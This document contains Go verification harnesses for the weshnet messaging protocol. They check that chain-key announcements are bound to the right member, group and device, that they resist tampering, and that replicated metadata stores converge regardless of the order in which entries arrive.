	verif_assume(err == nil)
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err := rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	n := verif_anyUint64("n")
	verif_assume(n < 0xfffffffffffffff0)
	ck := make([]byte, 32)
	_, _ = verifRand(ck)
	verif_assume(snd.putDeviceChainKey(ctx, gpk, sndMD.Device(), &protocoltypes.DeviceChainKey{ChainKey: ck, Counter: n}) == nil)

	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assert(err == nil, "C05.exact: announcement is produced")
	if err != nil {
		return
	}
	dck, err := decryptDeviceChainKey(enc, g, rcvMD.member, sndMD.Device())
	verif_assert(err == nil, "C05.exact: the intended member opens the announcement")
	if err != nil {
		return
	}
	verif_assert(verif_bytesEq(dck.ChainKey, ck) && dck.Counter == n, "C05.exact: it opens to the sender's chain key and counter at sealing time")
	verif_assert(!rcv.IsChainKeyKnownForDevice(ctx, gpk, sndMD.Device()), "C05.exact: unknown before registration")
	verif_assert(rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc) == nil, "C05.exact: registration succeeds")
	verif_assert(rcv.IsChainKeyKnownForDevice(ctx, gpk, sndMD.Device()), "C05.exact: known after registration")
	verif_reach("C05.exact.ok")
}

// VerifC05WrongParty: the announcement cannot be opened for another member, in another group (same keys: account
// vs contact group of the same accounts), or under a different claimed sender device.
func VerifC05WrongParty() {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	oth := verifNewStore("oth", 2)
	g1 := verifGroup(snd, rcv, 1) // account-typed: member = account key, device = device key
	g2 := verifGroup(snd, rcv, 2) // contact-typed: the same member and device keys, another group id
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g1)
	verif_assume(err == nil)
	rcvMD, err := rcv.deviceKeystore.memberDeviceForGroup(g1)
	verif_assume(err == nil)
	othMD, err := oth.deviceKeystore.memberDeviceForGroup(g1)
	verif_assume(err == nil)
	enc, err := snd.GetShareableChainKey(ctx, g1, rcvMD.Member())
	verif_assume(err == nil)

	_, err = decryptDeviceChainKey(enc, g1, rcvMD.member, sndMD.Device())
	verif_assert(err == nil, "C05.wrong: control -- the right member, group and sender open it")
	_, err = decryptDeviceChainKey(enc, g1, othMD.member, sndMD.Device())
	verif_assert(err != nil, "C05.wrong: another member cannot open it")
	_, err = decryptDeviceChainKey(enc, g2, rcvMD.member, sndMD.Device())
	verif_assert(err != nil, "C05.wrong: it does not open in another group (nonce bound to the group id)")
	_, err = decryptDeviceChainKey(enc, g1, rcvMD.member, othMD.Device())
	verif_assert(err != nil, "C05.wrong: it does not open under another claimed sender device")
	verif_assert(rcv.RegisterChainKey(ctx, g2, sndMD.Device(), enc) != nil, "C05.wrong: registering it for another group fails")
	verif_assert(oth.RegisterChainKey(ctx, g1, sndMD.Device(), enc) != nil, "C05.wrong: registering it at another member fails")
	verif_reach("C05.wrong.ok")
}

// VerifC05Tamper: with the sender-device/recipient-member box key secret (INT-CTXT), any accepted ciphertext is
// bit-for-bit the honest announcement.
func VerifC05Tamper(gt int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, gt)
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err := rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	verif_secretBoxKey(sndMD.device, rcvMD.Member())
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assume(err == nil)
	forged := verif_anyBytesNonNil("forged-announcement")
	_, err = decryptDeviceChainKey(forged, g, rcvMD.member, sndMD.Device())
	if err == nil {
		verif_assert(verif_bytesEq(forged, enc), "C05.tamper: only the unaltered announcement is accepted")
		verif_reach("C05.tamper.accepted")
	}
}

func VerifC05Witness() {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(snd, rcv, 3)
	sndMD, _ := snd.deviceKeystore.memberDeviceForGroup(g)
	rcvMD, _ := rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_secretBoxKey(sndMD.device, rcvMD.Member())
	_, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assume(err == nil)
	forged := verif_anyBytesNonNil("forged-announcement")
	_, err = decryptDeviceChainKey(forged, g, rcvMD.member, sndMD.Device())
	if err == nil {
		verif_assert(false, "C05.witness: reachable")
	}
}
