package weshnet

import (
	"github.com/libp2p/go-libp2p/core/crypto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

type verifC04Obs struct {
	cState         protocoltypes.ContactState
	cSeed, cMeta   []byte
	cKnown         bool
	g1, g2         accountGroupJoinedState
	crSet, crOn    bool
	crSeed         []byte
	nContacts      int
	nGroups        int
}

func verifC04Observe(idx *metadataStoreIndex, raw, g1pk, g2pk []byte) verifC04Obs {
	var o verifC04Obs
	if c, ok := idx.contacts[string(raw)]; ok && c != nil {
		o.cKnown = true
		o.cState = c.state
		o.cSeed = c.contact.PublicRendezvousSeed
		o.cMeta = c.contact.Metadata
	}
	if g, ok := idx.groups[string(g1pk)]; ok {
		o.g1 = g.state
	}
	if g, ok := idx.groups[string(g2pk)]; ok {
		o.g2 = g.state
	}
	if idx.contactRequestEnabled != nil {
		o.crSet = true
		o.crOn = *idx.contactRequestEnabled
	}
	o.crSeed = idx.contactRequestSeed
	o.nContacts = len(idx.contacts)
	o.nGroups = len(idx.groups)
	return o
}

func verifC04Same(a, b verifC04Obs) bool {
	return a.cKnown == b.cKnown && a.cState == b.cState && verif_bytesEq(a.cSeed, b.cSeed) && verif_bytesEq(a.cMeta, b.cMeta) &&
		a.g1 == b.g1 && a.g2 == b.g2 && a.crSet == b.crSet && a.crOn == b.crOn && verif_bytesEq(a.crSeed, b.crSeed) &&
		a.nContacts == b.nContacts && a.nGroups == b.nGroups
}

// VerifC04Converge: a causally ordered history of `steps` account operations (each a free choice inside a family) is
// written by the real store; a second replica receives the same entries in a FREE arrival order (the log contract:
// GetEntries() = arrival order, Values() = the deterministic log order). Both replicas must expose the same state, it
// must be the "latest event per subject wins" state, and re-indexing must not change it.
// family 0: one contact (enqueue, mark sent, block, unblock)   1: contact-request switch (enable, disable, reset)
// family 2: groups (join g1, leave g1, join g2)
func VerifC04Converge(family, steps, incremental int) {
	ctx := verif_background()
	m, ss := verifAccountStore("acct")
	_, pk := verifFreshKey()
	raw, _ := pk.Raw()
	g1, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	g2, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	g1pk, _ := g1.GetPubKey()

	// reference fold for families 1 and 2 (family 0 is compared with the C07 reference through the writer's own index)
	crSet, crOn := false, false
	var crSeed []byte
	var g1st, g2st accountGroupJoinedState
	for i := 0; i < steps; i++ {
		op := verif_anyInt("op")
		verif_assume(op >= 0 && op <= 3)
		switch family {
		case 0:
			s := make([]byte, 32)
			_, _ = verifRandRoot(s)
			code := []int{0, 1, 5, 6}[op]
			_ = verifC07Do(m, code, pk, raw, s, verif_anyBytes("meta"))
		case 1:
			verif_assume(op <= 2)
			switch op {
			case 0:
				_, err = m.ContactRequestEnable(ctx)
				crSet, crOn = true, true
			case 1:
				_, err = m.ContactRequestDisable(ctx)
				crSet, crOn = true, false
			default:
				_, err = m.ContactRequestReferenceReset(ctx)
				crSeed = m.Index().(*metadataStoreIndex).contactRequestSeed
			}
			verif_assert(err == nil, "C04: account switch operations succeed")
		default:
			verif_assume(op <= 2)
			switch op {
			case 0:
				if _, err = m.GroupJoin(ctx, g1); err == nil {
					g1st = accountGroupJoinedStateJoined
				}
			case 1:
				if _, err = m.GroupLeave(ctx, g1pk); err == nil {
					g1st = accountGroupJoinedStateLeft
				}
			default:
				if _, err = m.GroupJoin(ctx, g2); err == nil {
					g2st = accountGroupJoinedStateJoined
				}
			}
		}
	}
	writer := m.Index().(*metadataStoreIndex)
	ow := verifC04Observe(writer, raw, g1.PublicKey, g2.PublicKey)
	if family == 1 {
		verif_assert(ow.crSet == crSet && ow.crOn == crOn && verif_bytesEq(ow.crSeed, crSeed), "C04: the latest enable/disable/reset event wins")
	}
	if family == 2 {
		verif_assert(ow.g1 == g1st && ow.g2 == g2st, "C04: the latest join/leave event of a group wins")
	}
	// idempotence on the writer
	verif_assert(writer.UpdateIndex(verif_storeLog(&m.BaseStore), nil) == nil, "C04: re-index succeeds")
	verif_assert(verifC04Same(ow, verifC04Observe(writer, raw, g1.PublicKey, g2.PublicKey)), "C04: re-indexing the same log does not change the state")

	// second replica: same entry set, free arrival order
	rlog := verif_logCopy(verif_storeLog(&m.BaseStore))
	verif_logPermute(rlog)
	replica := newMetadataIndex(ctx, m.group, m.memberDevice, ss)(m.group.PublicKey).(*metadataStoreIndex)
	verif_assert(replica.UpdateIndex(rlog, nil) == nil, "C04: replica indexes the log")
	or := verifC04Observe(replica, raw, g1.PublicKey, g2.PublicKey)
	verif_assert(verifC04Same(ow, or), "C04.order: replicas holding the same entries expose the same state whatever the arrival order")

	// third replica: the entries arrive in two batches -- first a FREE subset of the log (entries of different devices
	// are concurrent branches, so a view need not be a prefix), then everything; the index is updated after each batch
	if incremental == 1 {
		full := verif_logCopy(verif_storeLog(&m.BaseStore))
		part := verif_logView(full)
		late := newMetadataIndex(ctx, m.group, m.memberDevice, ss)(m.group.PublicKey).(*metadataStoreIndex)
		verif_assert(late.UpdateIndex(part, nil) == nil, "C04: replica indexes a partial view")
		verif_assert(late.UpdateIndex(full, nil) == nil, "C04: replica indexes the completed log")
		ol := verifC04Observe(late, raw, g1.PublicKey, g2.PublicKey)
		verif_assert(verifC04Same(ow, ol), "C04.batches: a replica that received the entries in two batches exposes the same state as one that received them at once")
	}
	verif_reach("C04.converge.ok")
}

func VerifC04Witness() {
	VerifC04Converge(1, 2, 0)
	verif_assert(false, "C04.witness: reachable")
}

var _ crypto.PubKey

// VerifC04Devices: the set-valued part of the state (members, devices, secrets sent) of a multi-member group: three
// devices announce themselves -- two of them belong to the same member -- and the first sends its chain key to both
// members; `steps` of these five operations are performed in a free order by the real store functions. A replica that
// receives the entries in another arrival order, and one that receives a free subset first and the rest later, list the
// same members and devices as the writer, and every announced device is listed under its member.
func VerifC04Devices(steps, incremental, withSecrets int) {
	ctx := verif_background()
	sa := verifSecretStore("A1")
	sa2 := verifSecretStore("A2")
	ak, pk, err := sa.ExportAccountKeysForBackup()
	verif_assume(err == nil)
	verif_assume(sa2.ImportAccountKeys(ak, pk) == nil)
	sb := verifSecretStore("B1")
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	m := verifMetadataStore(sa, g)
	mds := make([]secretstore.OwnMemberDevice, 3)
	for i, s := range []secretstore.SecretStore{sa, sa2, sb} {
		mds[i], err = s.GetOwnMemberDeviceForGroup(g)
		verif_assume(err == nil)
	}
	var announced [3]bool
	for i := 0; i < steps; i++ {
		op := verif_anyInt("op")
		verif_assume(op >= 0 && op <= 2+2*withSecrets)
		switch {
		case op <= 2:
			verif_assume(!announced[op])
			_, err := MetadataStoreAddDeviceToGroup(ctx, m, g, mds[op])
			verif_assert(err == nil, "C04.dev: a device announcement is appended")
			announced[op] = true
		default:
			_, err := m.SendSecret(ctx, mds[(op-3)*2].Member()) // to member A (op 3) or member B (op 4)
			_ = err
		}
	}
	writer := m.Index().(*metadataStoreIndex)
	obs := func(idx *metadataStoreIndex) (nm, nd int, da [3]bool, ma [3]bool, sent [2]bool) {
		nm, nd = len(idx.members), len(idx.devices)
		for i := 0; i < 3; i++ {
			draw, _ := mds[i].Device().Raw()
			mraw, _ := mds[i].Member().Raw()
			_, da[i] = idx.devices[string(draw)]
			for _, d := range idx.members[string(mraw)] {
				if d.Device().Equals(mds[i].Device()) {
					ma[i] = true
				}
			}
		}
		for k := 0; k < 2; k++ {
			mraw, _ := mds[k*2].Member().Raw()
			_, sent[k] = idx.sentSecrets[string(mraw)]
		}
		return
	}
	wnm, wnd, wda, wma, wsent := obs(writer)
	for i := 0; i < 3; i++ {
		verif_assert(wda[i] == announced[i] && wma[i] == announced[i], "C04.dev: exactly the announced devices are listed, each under its member")
	}
	full := verif_logCopy(verif_storeLog(&m.BaseStore))
	verif_logPermute(full)
	replica := newMetadataIndex(ctx, g, mds[0], sa)(g.PublicKey).(*metadataStoreIndex)
	verif_assert(replica.UpdateIndex(full, nil) == nil, "C04.dev: replica indexes the log")
	rnm, rnd, rda, rma, rsent := obs(replica)
	verif_assert(rnm == wnm && rnd == wnd && rda == wda && rma == wma && rsent == wsent, "C04.dev: replicas holding the same entries list the same members, devices and sent secrets whatever the arrival order")
	if incremental == 1 {
		part := verif_logView(full)
		late := newMetadataIndex(ctx, g, mds[0], sa)(g.PublicKey).(*metadataStoreIndex)
		verif_assert(late.UpdateIndex(part, nil) == nil, "C04.dev: replica indexes a partial view")
		verif_assert(late.UpdateIndex(full, nil) == nil, "C04.dev: replica indexes the completed log")
		lnm, lnd, lda, lma, lsent := obs(late)
		verif_assert(lnm == wnm && lnd == wnd && lda == wda && lma == wma && lsent == wsent, "C04.dev.batches: a replica that received the entries in two batches lists the same members, devices and sent secrets")
	}
	verif_reach("C04.devices.ok")
}

// VerifC04Alias: a contact group of A and B. Each side announces its device and then sends its alias key; `steps` of these
// four operations are performed in a free interleaving by the real store functions of the two sides (an alias key is only
// sent by a device that has announced itself). Indexes with A's identity that receive the entries (a) in one pass under a
// free arrival order, (b) in two batches (free subset first), (c) one entry at a time, all report the same alias state,
// and it is the one the history implies: own alias sent iff A sent it, the other side's alias iff B sent it.
func VerifC04Alias(steps int) {
	ctx := verif_background()
	sa := verifSecretStore("A")
	sb := verifSecretStore("B")
	ka, err := sa.GetAccountPrivateKey()
	verif_assume(err == nil)
	kb, err := sb.GetAccountPrivateKey()
	verif_assume(err == nil)
	g, err := sa.GetGroupForContact(kb.GetPublic())
	verif_assume(err == nil)
	gb, err := sb.GetGroupForContact(ka.GetPublic())
	verif_assume(err == nil && verif_bytesEq(g.PublicKey, gb.PublicKey))
	mA := verifMetadataStore(sa, g)
	mB := verifMetadataStore(sb, g)
	mdA, err := sa.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	global := verif_newLog()
	sync := func() {
		for _, m := range []*MetadataStore{mA, mB} {
			for _, e := range verif_storeLog(&m.BaseStore).Values().Slice() {
				verif_logShare(global, e)
			}
		}
	}
	var annA, annB, aliasA, aliasB bool
	for i := 0; i < steps; i++ {
		op := verif_anyInt("op")
		verif_assume(op >= 0 && op <= 3)
		var err error
		switch op {
		case 0:
			verif_assume(!annA)
			_, err = mA.AddDeviceToGroup(ctx)
			annA = true
		case 1:
			verif_assume(annA && !aliasA)
			_, err = mA.ContactSendAliasKey(ctx)
			aliasA = true
		case 2:
			verif_assume(!annB)
			_, err = mB.AddDeviceToGroup(ctx)
			annB = true
		default:
			verif_assume(annB && !aliasB)
			_, err = mB.ContactSendAliasKey(ctx)
			aliasB = true
		}
		verif_assert(err == nil, "C04.alias: the operation is appended")
		sync()
	}
	wantOther := []byte(nil)
	if aliasB {
		pkB, err := sb.GetAccountProofPublicKey()
		verif_assume(err == nil)
		wantOther, _ = pkB.Raw()
	}
	check := func(idx *metadataStoreIndex, how string) {
		verif_assert(idx.ownAliasKeySent == aliasA, "C04.alias: own alias key is reported sent exactly when the history contains it")
		verif_assert(verif_bytesEq(idx.otherAliasKey, wantOther), "C04.alias: the other side's alias key is the one in the history")
	}
	full := verif_logCopy(global)
	verif_logPermute(full)
	one := newMetadataIndex(ctx, g, mdA, sa)(g.PublicKey).(*metadataStoreIndex)
	verif_assert(one.UpdateIndex(full, nil) == nil, "C04.alias: one-pass replica indexes the log")
	check(one, "one pass")
	part := verif_logView(full)
	two := newMetadataIndex(ctx, g, mdA, sa)(g.PublicKey).(*metadataStoreIndex)
	_ = two.UpdateIndex(part, nil)
	verif_assert(two.UpdateIndex(full, nil) == nil, "C04.alias: two-batch replica indexes the completed log")
	check(two, "two batches")
	verif_assert(two.UpdateIndex(full, nil) == nil, "C04.alias: re-indexing succeeds")
	check(two, "re-indexed")
	verif_reach("C04.alias.ok")
}
